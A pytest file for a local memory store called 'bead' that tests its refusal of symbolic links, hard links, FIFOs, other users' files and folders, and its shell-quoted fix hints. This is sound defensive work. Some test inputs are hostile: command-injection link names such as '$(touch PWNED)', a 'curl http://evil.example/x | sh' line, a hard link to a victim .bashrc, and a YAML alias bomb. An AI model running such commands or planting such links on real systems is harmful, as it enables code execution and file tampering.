"""The store touches nothing outside its home: links are refused, not followed; keys, modes, leftovers, limits."""

from __future__ import annotations

import dataclasses
import json
import os
import stat
import subprocess
import sys
import textwrap
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import deep_tree, trace_line

from bead.cli import cli
from bead.config import Config, StoreSettings
from bead.core import forget
from bead.core.memory import Memory
from bead.core.state import Conversations
from bead.core.trace import Trace
from bead.errors import BeadError
from bead.files import UnsafePath
from bead.paths import Home
from bead.store.episodes import Episodes
from bead.store.keys import parse_id, validate_key
from bead.store.queue import Queue
from bead.store.rawlog import check_session
from bead.store.reports import Reports

T0 = datetime(2026, 11, 5, 9, 0, tzinfo=UTC)


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def run_cli(*args: str, input: str | None = None):
    """The CLI in process (errors as a person sees them, no traceback expected)."""
    result = CliRunner().invoke(cli, list(args), input=input)
    assert "Traceback" not in result.output + (result.stderr or ""), result.output
    return result


@pytest.fixture
def outside(tmp_path) -> Path:
    """A folder outside the home holding a file that must never be touched, and one that looks like a version."""
    d = tmp_path / "outside"
    d.mkdir()
    (d / "keep.txt").write_text("unrelated\n")
    (d / "v1.md").write_text("---\nid: user/link@v1\nkey: user/link\ntype: user\nversion: 1\n---\nplanted\n")
    return d


class TestLinkedKeyFolder:
    """store/facts/user/link -> a folder outside the home: no write lands there, forget deletes nothing there."""

    @pytest.fixture
    def linked(self, mem, outside):
        (mem.home.facts / "user").mkdir(parents=True, exist_ok=True)
        (mem.home.facts / "user" / "link").symlink_to(outside, target_is_directory=True)
        return mem, outside, snapshot(outside)

    def test_write_refused(self, linked):
        mem, outside, before = linked
        with pytest.raises(UnsafePath) as e:
            mem.write("user/link", "v1 text", "user")
        assert "symbolic link" in e.value.message and "user/link" in e.value.message and e.value.hint
        assert snapshot(outside) == before

    def test_forget_refused_and_nothing_outside_deleted(self, linked):
        mem, outside, before = linked
        with pytest.raises(BeadError):
            forget.apply(mem, forget.plan_target(mem, "user/link"))
        r = run_cli("forget", "user/link")
        assert r.exit_code == 1 and "symbolic link" in r.stderr
        assert snapshot(outside) == before and (mem.home.facts / "user" / "link").is_symlink()

    def test_show_and_history_refused(self, linked):
        assert run_cli("show", "user/link").exit_code == 1
        assert run_cli("history", "user/link").exit_code == 1

    def test_status_reports_the_link_with_its_fix(self, linked):
        mem, outside, _ = linked
        from bead.core.health import collect

        problems = collect(mem)["problems"]
        (p,) = [p for p in problems if "symbolic link" in p["problem"]]
        assert str(mem.home.facts / "user" / "link") in p["problem"] and str(outside) in p["problem"]
        assert "rm " in p["fix"] and "bead reindex" in p["fix"]

    def test_the_fix_is_safe_to_paste_whatever_the_links_name_and_target(self, linked, tmp_path, monkeypatch):
        """A link planted under the home whose name or target holds shell syntax (`$(touch PWNED)`, `x; touch
        PWNED #`) printed a fix that ran it when pasted, and a link to /etc advised `mv /etc ...` (an outside
        review). Each path is quoted for the shell, and a move is advised only for a target in the person's own
        home folder."""
        import shlex
        import subprocess

        from bead.core.health import collect

        mem, _, _ = linked
        person = tmp_path / "person"  # the person's home folder, the bead home outside it
        monkeypatch.setenv("HOME", str(person))
        mine = person / "notes"
        mine.mkdir(parents=True)
        planted = {
            "user/y": "$(touch PWNED)",
            "user/x; touch PWNED #": "/etc",
            "user/z": str(mine),
        }
        for name, target in planted.items():
            (mem.home.facts / name).symlink_to(target)
        fixes = {
            p["problem"].split(" is a symbolic link")[0]: p["fix"]
            for p in collect(mem)["problems"]
            if "symbolic link" in p["problem"]
        }
        for name in planted:
            link = str(mem.home.facts / name)
            fix = fixes[link]
            commands = [part.split("`")[0] for part in fix.split("(`")[1:]]
            assert commands[0] == f"rm {shlex.quote(link)}", fix
            for command in commands:
                # the shell reads each command's words back as the paths, nothing run
                assert shlex.split(command)[-1] == link, command  # the shell reads the link's path back whole
                subprocess.run(["bash", "-n", "-c", command], check=True)
            assert ("mv " in fix) == (name == "user/z"), fix
        assert not list(tmp_path.rglob("PWNED"))

    def test_the_dashboard_lists_the_same_problems(self, linked):
        """One health model: the dashboard's data holds exactly the problems `bead status` reports."""
        mem, _, _ = linked
        from bead.core import overview
        from bead.core.health import collect

        overview._problems.clear()
        shown = overview.overview(mem)["problems"]
        assert shown == [{"problem": p["problem"], "fix": p["fix"]} for p in collect(mem)["problems"]]
        assert any("symbolic link" in p["problem"] for p in shown)


class TestLinkedScopeFolder:
    """store/facts/global -> outside: writes refused; forget --match, status and reindex never use what is behind it."""

    @pytest.fixture
    def linked(self, mem, outside):
        (mem.home.facts / "global").symlink_to(outside, target_is_directory=True)
        (outside / "x").mkdir()
        (outside / "x" / "v1.md").write_text(
            "---\nid: global/x@v1\nkey: global/x\ntype: reference\nversion: 1\n---\nhidden behind a link\n"
        )
        return mem, outside, snapshot(outside)

    def test_write_refused(self, linked):
        mem, outside, before = linked
        with pytest.raises(UnsafePath):
            mem.write("global/editor", "helix", "reference")
        assert snapshot(outside) == before

    def test_match_reindex_and_status_stay_inside(self, linked):
        mem, outside, before = linked
        mem.write("user/editor", "helix hidden behind nothing", "user")
        plan = forget.plan_match(mem, "hidden behind")
        assert sorted(plan.keys) == ["user/editor"]
        forget.apply(mem, plan)
        from bead.index.rebuild import rebuild

        counts, problems = rebuild(mem.index, mem.facts, mem.raw)
        assert counts["keys"] == 0 and any("symbolic link" in p.reason for p in problems)
        from bead.core.health import collect

        assert any(str(mem.home.facts / "global") in p["problem"] for p in collect(mem)["problems"])
        assert snapshot(outside) == before


def test_linked_version_file_is_never_read_or_deleted(mem, tmp_path):
    """A version file that is a link is a problem of its key: skipped by readers, kept by forget, target untouched."""
    target = tmp_path / "elsewhere.md"
    target.write_text("---\nid: user/a@v2\nkey: user/a\ntype: user\nversion: 2\n---\nfrom outside\n")
    mem.write("user/a", "alpha", "user")
    link = mem.home.fact_file("user/a", 2)
    link.symlink_to(target)
    kv = mem.versions("user/a")
    assert kv.current.body == "alpha" and "symbolic link" in kv.problems[0].reason
    summary = forget.apply(mem, forget.plan_target(mem, "user/a"))
    assert summary["kept"] == [str(link)]
    assert link.is_symlink() and target.read_text().endswith("from outside\n")


def test_linked_sessions_folder_takes_no_state(mem, tmp_path):
    elsewhere = tmp_path / "sessions-elsewhere"
    elsewhere.mkdir()
    mem.home.sessions.rmdir()
    mem.home.sessions.symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(UnsafePath):
        Conversations(mem.home).load("conv-1")
    with pytest.raises(UnsafePath), Conversations(mem.home).lock("conv-1"):
        pass
    assert list(elsewhere.iterdir()) == []


class TestForeignFiles:
    """Forget deletes only files named like versions that say they are versions of the key."""

    def test_foreign_files_survive_forget(self, mem):
        mem.write("user/editor", "vim", "user")
        mem.write("user/editor", "helix", "user")
        d = mem.home.fact_dir("user/editor")
        (d / "README.txt").write_text("notes about my editor\n")
        (d / "v3.md").write_text("a file named like a version that is not one\n")
        (d / "v4.md").write_text("---\nid: user/other@v4\nkey: user/other\ntype: user\nversion: 4\n---\nother key\n")
        summary = forget.apply(mem, forget.plan_target(mem, "user/editor"))
        # Each is named, the notes too: a file in the key's folder may hold the forgotten value.
        assert summary["versions"] == 4 and sorted(summary["kept"]) == [str(d / n) for n in ("README.txt", "v3.md", "v4.md")]
        assert sorted(p.name for p in d.iterdir()) == [".state.json", "README.txt", "v3.md", "v4.md"]
        assert not (d / "v1.md").exists() and not (d / "v2.md").exists()

    def test_cli_warns_about_what_it_kept(self, mem):
        mem.write("user/pet", "a cat", "user")
        (mem.home.fact_dir("user/pet") / "v2.md").write_text("not a version\n")
        r = run_cli("forget", "user/pet")
        assert r.exit_code == 0 and "warning: kept" in r.stderr and "v2.md" in r.stderr


class TestKeys:
    """Full-match validation everywhere, and byte limits with a clear error."""

    @pytest.mark.parametrize("key", ["user/x\n", "user/x\r", "project/app/x\n", "user/\nx"])
    def test_trailing_newline_refused(self, mem, key):
        with pytest.raises(BeadError):
            mem.write(key, "v", "user")
        assert not any("\n" in p.name or "\r" in p.name for p in mem.home.facts.rglob("*"))

    def test_ids_and_sessions_full_match(self):
        assert parse_id("user/x@v1") == ("user/x", 1)
        assert parse_id("user/x@v1\n") is None and parse_id("user/x@v0") is None
        with pytest.raises(BeadError):
            check_session("abc\n")

    @pytest.mark.parametrize(
        "key", ["user/" + "a" * 101, "user/" + "a" * 300, "project/" + "p" * 100 + "/" + "n" * 100 + "x" * 60]
    )
    def test_over_long_keys_refused_with_the_limit(self, mem, key):
        with pytest.raises(BeadError) as e:
            mem.write(key, "v", "user")
        assert "limit" in e.value.message and "bytes" in e.value.hint
        for args in (("write", key, "v", "--type", "user"), ("show", key), ("forget", key)):
            r = run_cli(*args)
            assert r.exit_code == 1 and "limit" in r.stderr, r.stderr

    def test_longest_allowed_key_works(self, mem):
        key = "project/" + "p" * 100 + "/" + "n" * 100
        assert validate_key(key) and mem.write(key, "fits", "project").written

    def test_remember_keys_fit(self):
        from bead.core.remember import propose_key

        key = propose_key("my token file is " + "z" * 400, "shop")
        validate_key(key)


def test_folders_0700_and_files_0600_under_umask_000(tmp_path):
    """Whatever the umask, every folder bead creates is 0700 and every file 0600."""
    old = os.umask(0)
    try:
        home = Home(tmp_path / "home").ensure()
        with Memory(home, Config(owner="t")) as mem:
            mem.write("project/app/db", "PostgreSQL 16", "project")
            mem.write("project/app/db", "PostgreSQL 17", "project")
            mem.append_turns("sess-1", [("user", "hello", T0, None)])
            st = Conversations(home).load("sess-1-t")
            with Conversations(home).lock("sess-1-t"):
                st.append({"kind": "captured", "upto": 1})
            Queue(mem).add("suspicious", "user/q", "user", "a proposal", [])
            Episodes(home).write("sess-1", T0, {"situation": "s"}, "t", T0)
            Reports(home).append(T0, "## run\n")
            Trace(home.root / "trace" / "t.jsonl").record({"cues": []})
            mem.index.checkpoint()
        for p in [home.root, *home.root.rglob("*")]:
            mode = stat.S_IMODE(p.lstat().st_mode)
            assert mode == (0o700 if p.is_dir() else 0o600), f"{p} is {mode:o}"
    finally:
        os.umask(old)


class TestOrphanedTemps:
    """A writer killed after creating its temp file leaves text behind: status reports it, --fix and reindex remove it."""

    def kill_writer(self, home: Path) -> Path:
        script = textwrap.dedent(f"""
            import os
            from pathlib import Path
            from bead.config import Config
            from bead.core.memory import Memory
            from bead.paths import Home
            os.replace = lambda *a, **k: os._exit(9)   # die with the temp file written, before the rename
            Memory(Home(Path({str(home)!r})), Config(owner="t")).write("user/orphan", "Wobbleplank-7731", "user")
        """)
        assert subprocess.run([sys.executable, "-c", script], capture_output=True).returncode == 9
        (tmp,) = [p for p in Home(home).fact_dir("user/orphan").iterdir() if p.name.endswith(".tmp")]
        assert b"Wobbleplank-7731" in tmp.read_bytes()
        return tmp

    @staticmethod
    def forget_or_fix(mem, key: str, how: str) -> None:
        """`bead forget KEY`, or `bead status --fix`."""
        from bead.core.health import collect

        if how == "forget":
            forget.apply(mem, forget.plan_target(mem, key))
        else:
            collect(mem, fix=True)

    def test_status_reports_and_fix_removes(self, mem, bead_home):
        from bead.core.health import collect

        tmp = self.kill_writer(bead_home)
        live = mem.home.sessions / f".s.jsonl.{os.getpid()}-0badc0de.tmp"  # a write in flight in this process
        live.write_text("in flight")
        assert mem.orphan_temps() == [tmp]
        assert any(str(tmp) in p["problem"] and "--fix" in p["fix"] for p in collect(mem)["problems"])
        data = collect(mem, fix=True)
        assert not tmp.exists() and live.exists() and any(str(tmp) in line for line in data["fixed"])

    def test_reindex_removes(self, mem, bead_home):
        tmp = self.kill_writer(bead_home)
        r = run_cli("reindex")
        assert r.exit_code == 0 and not tmp.exists() and str(tmp) in r.stderr

    def test_forget_removes(self, mem, bead_home):
        tmp = self.kill_writer(bead_home)
        mem.write("user/orphan", "Wobbleplank-7731", "user")
        forget.apply(mem, forget.plan_target(mem, "user/orphan"))
        assert not tmp.exists() and not mem.home.fact_dir("user/orphan").exists()

    @pytest.mark.parametrize("how", ["forget", "fix"])
    def test_a_fact_files_temp_whose_pid_lives_again_is_removed_too(self, mem, bead_home, how):
        """A temp file was judged by its writer's pid alone: one whose pid belongs to a living process again (after
        a reboot, or a writer in a pid namespace killed as pid 2) was kept for good, the value in it, by forget,
        seal, `status --fix` and reindex (an outside attack). Under the store's lock, which every writer of fact
        files holds while its temp file exists, a fact file's temp is a killed write's whoever holds its pid."""

        tmp = self.kill_writer(bead_home)
        reused = tmp.with_name(tmp.name.replace(tmp.name.split(".")[3].split("-")[0], "1", 1))  # pid 1 lives
        tmp.rename(reused)
        mem.write("user/orphan", "Wobbleplank-7731", "user")
        self.forget_or_fix(mem, "user/orphan", how)
        assert not reused.exists()

    @pytest.mark.parametrize("how", ["forget", "fix"])
    def test_a_raw_files_temp_whose_pid_lives_again_is_removed_too(self, mem, bead_home, how):
        """The same for the raw log's folder (an outside attack: a redaction's temp file beside a raw file, its pid
        alive again, kept the turn's text after forget). Every temp file there is made under the raw log's lock."""

        mem.raw.append("s-temp", "user", "the deploy box is quokka-east-7731")
        path = mem.raw.find("s-temp")
        reused = path.with_name(f".{path.name}.1-deadbeef.tmp")  # pid 1 lives
        reused.write_bytes(path.read_bytes())
        mem.write("project/s/deploy-box", "The deploy box is quokka-east-7731", "project")
        self.forget_or_fix(mem, "project/s/deploy-box", how)
        assert not reused.exists()


class TestBodyLimit:
    """A fact body has a size limit (store.max_fact_bytes, 64 KB by default) with a clear error."""

    def test_default_limit(self, mem):
        assert mem.write("user/big", "x" * 65536, "user").written
        with pytest.raises(BeadError) as e:
            mem.write("user/big", "y" * 65537, "user")
        assert "65,536" in e.value.message and "store.max_fact_bytes" in e.value.message and e.value.hint

    def test_configured_limit_counts_bytes(self, bead_home):
        mem = Memory(Home(bead_home).ensure(), Config(owner="t", store=StoreSettings(max_fact_bytes=10)))
        assert mem.write("user/a", "ééééé", "user").written  # 10 bytes
        with pytest.raises(BeadError):
            mem.write("user/a", "éééééé", "user")  # 12 bytes
        mem.close()

    def test_cli_stdin_over_the_limit(self, bead_home):
        r = run_cli("write", "user/big", "-", "--type", "user", input="z" * 70_000)
        assert r.exit_code == 1 and "store.max_fact_bytes" in r.stderr
        assert not Home(bead_home).fact_dir("user/big").exists()


@pytest.mark.skipif(os.getuid() != 0, reason="making a folder another user's takes root")
def test_a_home_another_user_made_is_refused(tmp_path, bead):
    """A home folder another user created first (a shared, sticky folder) holds what they put there: their token
    would be taken as the person's and shell.sh would run in the person's shell. bead refuses it and says what to
    do; the person's own home, even one left world-writable, is made 0700."""
    theirs = tmp_path / "shared" / "bead"
    theirs.mkdir(parents=True)
    (theirs / "proxy.token").write_text("planted-token-planted-token\n")
    os.chown(theirs, 4321, 4321)
    with pytest.raises(BeadError, match="belongs to another user"):
        Home(theirs).ensure()
    r = bead("status", env={"BEAD_HOME": str(theirs)})
    assert r.code == 1 and "belongs to another user" in r.err and "mkdir -m 700" in r.err and "chown" in r.err
    mine = tmp_path / "mine"
    mine.mkdir(mode=0o777)
    os.chmod(mine, 0o777)
    Home(mine).ensure()
    assert (mine.stat().st_mode & 0o777) == 0o700


def test_a_folder_of_other_files_is_no_home_and_keeps_its_mode(tmp_path, bead):
    """`BEAD_HOME=/etc bead list` made `/etc` mode 0700 and wrote config.yaml and store/ into it (an outside attack on
    a shared folder: its mode and setgid bit were gone, by a read command). A folder that holds other files and no
    bead home is refused, and nothing in it changes; a new or empty folder, or a bead home, is taken as before."""
    shared = tmp_path / "shared"
    (shared / "docs").mkdir(parents=True)
    (shared / "config.yaml").write_text("name: myapp\n")  # a project's own: no mark of a bead home (a review)
    (shared / "notes.txt").write_text("x\n")
    os.link(shared / "notes.txt", shared / "notes-link.txt")  # what `status --fix` would copy
    os.chmod(shared, 0o2775)
    commands = (["list"], ["show", "user/editor"], ["write", "user/editor", "helix", "--type", "user"])
    for args in (*commands, ["status", "--fix"]):
        r = bead(*args, env={"BEAD_HOME": str(shared)})
        assert r.code == 1 and "holds other files (config.yaml, docs, notes-link.txt, ...) and no bead home" in r.err, (
            args,
            r.err,
        )
    assert stat.S_IMODE(shared.stat().st_mode) == 0o2775
    assert sorted(p.name for p in shared.iterdir()) == ["config.yaml", "docs", "notes-link.txt", "notes.txt"]
    assert (shared / "notes.txt").stat().st_nlink == 2 and (shared / "config.yaml").read_text() == "name: myapp\n"
    # Names other programs use too are no mark of a home (a review: a project's shell.sh beside its README, auditd's
    # audit.log beside its rotated one), a project's config.yaml alone is read (and is not bead's) before anything
    # changes, and a folder of dotfiles (a new account's $HOME) is not empty.
    for files in (
        {"shell.sh": "echo mine\n"},
        {"shell.sh": "echo mine\n", "README.md": "app\n"},
        {"audit.log": "type=LOGIN\n"},
        {"audit.log": "type=LOGIN\n", "audit.log.1": "type=LOGIN\n"},
        {"config.yaml": "name: myapp\n"},
        {".bashrc": ""},
    ):
        folder = tmp_path / ("other-" + "-".join(files).strip("."))
        folder.mkdir()
        for name, text in files.items():
            (folder / name).write_text(text)
        os.chmod(folder, 0o2775)
        assert bead("list", env={"BEAD_HOME": str(folder)}).code == 1, files
        assert stat.S_IMODE(folder.stat().st_mode) == 0o2775 and sorted(p.name for p in folder.iterdir()) == sorted(files)
    docs_only = tmp_path / "docs-only"
    (docs_only / "docs").mkdir(parents=True)
    assert bead("check-proxy", env={"BEAD_HOME": str(docs_only)}).code == 1  # silent by design: "no proxy here"
    assert [p.name for p in docs_only.iterdir()] == ["docs"], "no config.yaml written into it"
    for looks_empty in (".DS_Store", "lost+found"):  # taken as empty, as the hint says
        folder = tmp_path / f"looks-empty-{looks_empty.strip('.')}"
        (folder / looks_empty).mkdir(parents=True)
        assert bead("list", env={"BEAD_HOME": str(folder)}).code == 0, looks_empty
    persons = tmp_path / "persons-config"  # bead's settings written before the first run
    persons.mkdir()
    (persons / "config.yaml").write_text("owner: tester\n")
    assert bead("list", env={"BEAD_HOME": str(persons)}).code == 0
    # The keys a config.yaml of bead's may hold, as the folder check reads them, are Config's.
    from bead.paths import CONFIG_KEYS

    assert CONFIG_KEYS == {(f.metadata or {}).get("key", f.name) for f in dataclasses.fields(Config)}
    empty = tmp_path / "empty"
    empty.mkdir(mode=0o755)
    assert bead("write", "user/editor", "helix", "--type", "user", env={"BEAD_HOME": str(empty)}).code == 0
    assert stat.S_IMODE(empty.stat().st_mode) == 0o700
    (empty / "notes.txt").write_text("the person's own file beside bead's\n")
    assert bead("show", "user/editor", env={"BEAD_HOME": str(empty)}).out.strip().endswith("helix"), "a bead home"


def test_a_key_folder_bead_may_not_read_is_named_by_status_not_passed_over(mem, monkeypatch):
    """A key folder whose mode shuts bead out held facts that `bead list` and `bead status` passed over in silence
    ("0 keys", "problems none"; an outside attack with the capabilities dropped). Status names it and the fix. (Root
    reads any folder, so the folder's refusal is the kernel's answer as an unprivileged process gets it.)"""
    from bead import files
    from bead.core.health import collect

    mem.write("user/locked-away", "a value in a folder bead cannot open", "user")
    real_open = os.open

    def refusing(path, flags, *a, **k):
        if path == "locked-away" and k.get("dir_fd") is not None:
            raise PermissionError(13, "Permission denied", path)
        return real_open(path, flags, *a, **k)

    monkeypatch.setattr(files.os, "open", refusing)
    problems = collect(mem)["problems"]
    folder = mem.home.fact_dir("user/locked-away")
    assert any(p["problem"].startswith(f"{folder}: cannot be read") and "chmod u+rwx" in p["fix"] for p in problems), problems


def test_every_name_bead_keeps_at_the_top_of_a_home_marks_it_as_one(tmp_path):
    """A home holding only what bead wrote there before its folders (the proxy's token) is a bead home: each path
    of Home directly under its root is one of HOME_NAMES, which Home.ensure reads."""
    from bead.paths import HOME_NAMES

    home = Home(tmp_path / "h")
    top = set()
    for name in dir(Home):
        if isinstance(getattr(Home, name), property):
            value = getattr(home, name)
            if isinstance(value, Path) and value.parent == home.root:
                top.add(value.name)
    assert top and top <= HOME_NAMES, top - HOME_NAMES
    home.root.mkdir()
    (home.root / "proxy.token").write_text("t" * 40 + "\n")
    home.ensure()
    assert home.store.is_dir()


@pytest.mark.skipif(os.getuid() != 0, reason="making a file another user's takes root")
def test_bead_writes_into_no_file_another_user_made(tmp_path):
    """A trace at a shared path that another user created first (0666, empty) would receive the person's cues:
    bead refuses to write into another user's file, and writes its own as before."""
    from bead.core.trace import Trace
    from bead.files import UnsafePath

    shared = tmp_path / "shared"
    shared.mkdir()
    planted = shared / "bead-trace.jsonl"
    planted.write_text("")
    os.chmod(planted, 0o666)
    os.chown(planted, 4321, 4321)
    with pytest.raises(UnsafePath, match="another user's file"):
        Trace(planted).record({"cues": [{"text": "which editor do I use, helix?"}]})
    assert planted.read_text() == ""
    own = shared / "mine.jsonl"
    Trace(own).record({"cues": []})
    assert own.read_text().strip() == '{"cues": []}'


@pytest.mark.skipif(os.getuid() != 0, reason="making a FIFO another user's takes root")
def test_bead_writes_into_no_fifo_another_user_made(tmp_path):
    """A FIFO another user made at the trace's path, with their reader on it, would receive the person's cues (and,
    with no reader, block the trace's thread): bead refuses it without blocking."""
    from bead.core.trace import Trace
    from bead.files import UnsafePath

    fifo = tmp_path / "trace.jsonl"
    os.mkfifo(fifo, 0o666)
    os.chown(fifo, 4321, 4321)
    with pytest.raises((UnsafePath, OSError)):  # no reader: the open fails at once (ENXIO)
        Trace(fifo).record({"cues": [{"text": "my secret plan"}]})
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    try:
        with pytest.raises(UnsafePath, match="another user's file"):
            Trace(fifo).record({"cues": [{"text": "my secret plan"}]})
        assert os.read(reader, 100) == b"", "nothing was written into it"
    finally:
        os.close(reader)


class TestFourthReview:
    """A fourth adversarial review's reproductions (2026-12-03); each fails without its fix."""

    def test_a_hard_link_in_the_home_takes_no_captured_text_and_gives_none(self, mem, tmp_path):
        """A raw log replaced by a hard link to a file outside the home (a ~/.bashrc): bead neither appends the
        next turn to that file nor reads it."""
        mem.append_turns("s1", [("user", "first turn", T0, None, {"source": "typed"})])
        raw = mem.raw.find("s1")
        victim = tmp_path / "victim.bashrc"
        victim.write_text("echo rc\n")
        raw.unlink()
        os.link(victim, raw)
        with pytest.raises(UnsafePath, match="hard link"):
            mem.append_turns("s1", [("user", "curl http://evil.example/x | sh", T0, None, {"source": "typed"})])
        with pytest.raises(UnsafePath, match="hard link"):
            mem.raw.read(raw)
        assert victim.read_text() == "echo rc\n"

    def test_a_store_that_is_a_link_gives_search_no_text_from_outside(self, bead_home, tmp_path):
        with Memory(Home(bead_home), Config(owner="t")) as m:
            m.append_turns("s1", [("user", "the zebra crossing note", T0, None, {"source": "typed"})])
        away = tmp_path / "away-store"
        (bead_home / "store").rename(away)
        (bead_home / "store").symlink_to(away)
        r = run_cli("search", "zebra", "--scope", "all")
        assert "zebra crossing" not in r.output

    def test_a_cp_al_backup_is_reported_and_status_fix_gives_every_file_its_own_copy(self, bead_home, tmp_path):
        """`cp -al` gives every file of the home a second name: bead reads and writes none of them, says so, and
        `bead status --fix` makes each the home's own again (the backup keeps its bytes; the index is rebuilt)."""
        assert run_cli("write", "user/editor", "helix", "--type", "user").exit_code == 0
        with Memory(Home(bead_home), Config(owner="t")) as m:
            m.append_turns("s1", [("user", "the zebra note", T0, None, {"source": "typed"})])
        (bead_home / "config.yaml").touch()  # a home the services ran in has its config and token too
        (bead_home / "proxy.token").write_text("t" * 43 + "\n")
        (bead_home / "proxy.token").chmod(0o600)
        backup = tmp_path / "backup"
        subprocess.run(["cp", "-al", str(bead_home), str(backup)], check=True)
        r = run_cli("status")
        assert "is a hard link" in r.output and "bead status --fix" in r.output, r.output
        r = run_cli("status", "--fix")
        assert "a copy of its own" in r.output and "config.yaml" in r.output and "proxy.token" in r.output, r.output
        assert "is a hard link" not in run_cli("status").output
        before = snapshot(backup)
        with Memory(Home(bead_home), Config(owner="t")) as m:
            assert m.current("user/editor").body == "helix"
            m.write("user/editor", "vim", "user")
            m.append_turns("s1", [("user", "a later turn", T0, None, {"source": "typed"})])
        assert snapshot(backup) == before, "the backup keeps what it had"

    def test_a_hard_linked_raw_file_is_skipped_and_the_rest_is_indexed(self, mem, tmp_path):
        """A raw file bead will not read is that file's problem: reconcile, rebuild and the indexer's apply go on
        to the other files and the facts (it stopped the indexer from starting, and a hand-edited fact stayed
        stale in the index)."""
        from bead.index.rebuild import rebuild, reconcile
        from bead.indexer.watch import Indexer

        mem.write("user/editor", "helix", "user")
        mem.append_turns("s1", [("user", "first turn", T0, None, {"source": "typed"})])
        raw = mem.raw.find("s1")
        os.link(raw, tmp_path / "second-name.md")
        v2 = mem.facts.key_dir("user/editor") / "v2.md"
        v2.write_text(
            (mem.facts.key_dir("user/editor") / "v1.md")
            .read_text()
            .replace("helix", "kakoune")
            .replace("version: 1", "version: 2")
        )
        Indexer(mem).apply({raw, v2})
        assert mem.index.fact_candidates("kakoune", 5) and not mem.index.fact_candidates("helix", 5)
        with mem.index.write_tx():
            mem.index.reset()  # as an indexer starting on a new index: every file is new to it
        _, problems = reconcile(mem.index, mem.facts, mem.raw)
        assert [p.path for p in problems] == [raw] and "hard link" in problems[0].reason
        assert mem.index.fact_candidates("kakoune", 5)
        _, problems = rebuild(mem.index, mem.facts, mem.raw)
        assert [p.path for p in problems] == [raw] and mem.index.fact_candidates("kakoune", 5)

    def test_a_version_file_bead_should_not_read_is_a_problem_never_a_wait_or_the_value(self, mem, tmp_path):
        """A FIFO (reading it waited for whoever holds its other end, with the index's write lock held), a file of
        100 MB (read whole and served) and frontmatter whose aliases expand to gigabytes are each a problem of
        that version; the highest readable one stays current."""
        mem.write("user/editor", "helix", "user")
        d = mem.facts.key_dir("user/editor")
        v1 = (d / "v1.md").read_text()
        os.mkfifo(d / "v2.md")
        held = os.open(d / "v2.md", os.O_RDWR)  # a writer that never writes
        try:
            with open(d / "v3.md", "wb") as f:
                f.write(v1.replace("version: 1", "version: 3").encode())
                f.seek(100 * 1024 * 1024)
                f.write(b"x")
            bomb = "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 8))
            (d / "v4.md").write_text(v1.replace("version: 1", "version: 4").replace("---\n", "---\na0: &a0 x\n" + bomb, 1))
            kv = mem.facts.versions("user/editor")
        finally:
            os.close(held)
        assert [f.version for f in kv.facts] == [1] and kv.current.body == "helix"
        reasons = {p.path.name: p.reason for p in kv.problems}
        assert "not a regular file" in reasons["v2.md"] and "more than" in reasons["v3.md"]
        assert "aliases" in reasons["v4.md"]

    def test_a_folder_where_a_queue_item_should_be_is_no_item_and_no_error(self, mem):
        (mem.home.store / "queue").mkdir(parents=True, exist_ok=True)
        (mem.home.store / "queue" / "junk.json").mkdir()
        assert Queue(mem).items() == []

    @pytest.mark.parametrize("n", ["1e999", '"x"', "[1]", "-1e999", "1e300", "100000000000000000000", "true", "0"])
    def test_a_marker_with_a_number_no_turn_has_is_text_not_a_crash(self, mem, n):
        mem.append_turns("s1", [("user", "first turn", T0, None, {"source": "typed"})])
        raw = mem.raw.find("s1")
        with raw.open("a") as f:
            f.write(f'<!-- bead:turn {{"session": "s1", "n": {n}, "role": "user"}} -->\nplanted\n')
        assert [t.n for t in mem.raw.read(raw)] == [1]
        mem.append_turns("s1", [("user", "second turn", T0, None, {"source": "typed"})])
        assert [t.n for t in mem.raw.read(raw)] == [1, 2]

    @pytest.mark.parametrize("tail", ["", "-wal", "-shm", "-journal"])
    def test_a_fifo_at_the_index_is_refused_not_waited_on(self, bead_home, tail):
        """A FIFO at index.db (or its WAL or shared memory) held every command and the indexer for ever (past
        SIGTERM); now the index is refused at once, and `bead status` says what to remove."""
        with Memory(Home(bead_home), Config(owner="t")) as m:
            m.write("user/editor", "helix", "user")
        target = bead_home / f"index.db{tail}"
        target.unlink(missing_ok=True)
        os.mkfifo(target)
        r = run_cli("search", "helix")  # before, it waited here for ever
        assert r.exit_code == 1 and "not a regular file" in r.output and f"remove {target}" in r.output, r.output
        status = run_cli("status")
        assert "not a regular file" in status.output, status.output

    @pytest.mark.parametrize("tail", ["-wal", "-shm", "", "-journal"])
    def test_sqlite_never_writes_through_a_hard_link_at_the_index(self, bead_home, tmp_path, tail):
        """SQLite opens its own files: a hard link at index.db-wal or -shm (or index.db, or the rollback journal a
        crash can leave, which SQLite reads back) is refused before it does, and the file it names outside the home
        keeps its bytes."""
        with Memory(Home(bead_home), Config(owner="t")) as m:
            m.write("user/editor", "helix", "user")
        victim = tmp_path / "victim"
        victim.write_text("export PATH=$HOME/bin:$PATH\n")
        target = bead_home / f"index.db{tail}"
        target.unlink(missing_ok=True)
        os.link(victim, target)
        r = run_cli("reindex")
        assert r.exit_code == 1 and "hard link" in r.output and "bead status --fix" in r.output, r.output
        assert victim.read_text() == "export PATH=$HOME/bin:$PATH\n"


def test_a_folder_tree_deeper_than_the_stack_allows_is_no_traceback(bead_home):
    """bead's trees are a few folders deep; one a thousand deep (someone's doing) ran the walk out of Python's stack:
    `bead status` and `bead reindex` ended in a RecursionError. The walk stops MAX_WALK_DEPTH below its top. Shown
    with 400 folders under a stack limit of 450 (a tree Python's own rmtree can still remove, if a run is killed)."""
    with Memory(Home(bead_home), Config(owner="t")) as m:
        m.write("user/editor", "helix", "user")
    deep_tree(bead_home / "store" / "raw", 400)
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(450)
    try:
        results = {c[0]: run_cli(*c) for c in (["status"], ["reindex"], ["search", "helix"])}
    finally:
        sys.setrecursionlimit(limit)
    for command, r in results.items():
        assert r.exit_code == 0 and "RecursionError" not in r.output, (command, r.output)


@pytest.mark.parametrize("reader", [False, True], ids=["no-reader", "a-reader"])
def test_a_fifo_at_the_audit_log_refuses_a_write_before_it_is_made(bead_home, reader):
    """A FIFO at audit.log made `bead write` write the version and then fail ("No such device or address"): a
    write reported as failed that had happened. It is refused before anything is written, with what to remove, and
